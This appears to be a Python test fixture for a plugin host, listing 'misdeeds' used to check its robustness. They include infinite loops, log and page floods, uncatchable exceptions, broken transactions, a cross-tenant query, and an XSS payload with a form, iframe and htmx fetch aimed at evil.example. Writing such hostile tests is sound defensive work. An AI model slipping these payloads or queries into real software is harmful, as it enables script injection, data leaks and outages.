"""The ways to misbehave, each a function that takes anything."""

import logging
import sys
import time
from collections.abc import Callable
from typing import Any

from sqlalchemy import text

from core.sdk import transaction
from dangjian_hostile.everything.models import Junk

Misdeed = Callable[..., Any]


class Mean(BaseException):
    """What an ``except Exception`` does not catch."""


def raises(*_: Any, **__: Any) -> Any:
    """Fail, quoting somebody's number."""
    raise LookupError("张三 110101199001011237")


def raises_worse(*_: Any, **__: Any) -> Any:
    """Fail past ``except Exception``."""
    raise Mean


def leaves(*_: Any, **__: Any) -> Any:
    """End the process, as Python does it."""
    sys.exit(3)


def loops(*_: Any, **__: Any) -> Any:
    """Never end."""
    while True:
        pass


def clings(*_: Any, **__: Any) -> Any:
    """Never end, and swallow what would end it."""
    while True:
        try:
            while True:
                pass
        except Exception:  # noqa: BLE001
            pass


def sleeps(*_: Any, **__: Any) -> Any:
    """Sit in a call of the system's, where nothing written in Python can reach."""
    time.sleep(1.5)


def floods_log(*_: Any, **__: Any) -> Any:
    """Write a hundred thousand lines."""
    log = logging.getLogger("dangjian_hostile")
    for number in range(100_000):
        log.warning("%s", number)


def floods_page(*_: Any, **__: Any) -> Any:
    """Give ten megabytes."""
    return "<p>长</p>" * 1_000_000


def scripts(*_: Any, **__: Any) -> Any:
    """Give script in every form."""
    from markupsafe import Markup

    return Markup(
        "<script>alert(1)</script><img src=x onerror=alert(1)><a href='javascript:alert(1)'>点</a>"
        "<style>body{display:none}</style><form action='https://evil.example/'><input name=p></form>"
        "<iframe src='https://evil.example'></iframe><p hx-get='//evil.example/x'>好</p></main></body>"
    )


def writes_and_fails(*_: Any, **__: Any) -> Any:
    """Leave half of something."""
    with transaction() as session:
        session.add(Junk(body="半"))
        session.flush()
        raise ValueError


def spoils_transaction(*_: Any, **__: Any) -> Any:
    """Send what the database refuses, and go on as if nothing were."""
    with transaction() as session:
        try:
            session.execute(text("SELECT nothing FROM nowhere"))
        except Exception:  # noqa: BLE001
            return "好"


def forgets_tenant(*_: Any, **__: Any) -> Any:
    """Ask for everybody's members."""
    with transaction() as session:
        return ",".join(session.execute(text("SELECT name FROM core.person")).scalars())


def wrong_kind(*_: Any, **__: Any) -> Any:
    """Give what nobody asked for."""
    return object()


MISDEEDS: dict[str, Misdeed] = {
    one.__name__: one
    for one in (
        raises, raises_worse, leaves, loops, clings, sleeps, floods_log, floods_page, scripts, writes_and_fails,
        spoils_transaction, forgets_tenant, wrong_kind,
    )
}  # fmt: skip
